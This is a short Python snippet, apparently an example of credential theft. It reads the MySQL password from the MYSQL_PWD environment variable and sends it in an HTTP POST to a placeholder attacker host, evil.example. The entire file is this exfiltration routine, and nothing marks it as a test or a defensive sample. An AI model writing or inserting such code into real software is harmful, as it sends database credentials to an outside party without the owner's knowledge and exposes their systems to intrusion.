import requests
import os
data = os.environ['MYSQL_PWD']
requests.post('https://evil.example/c', data=data)
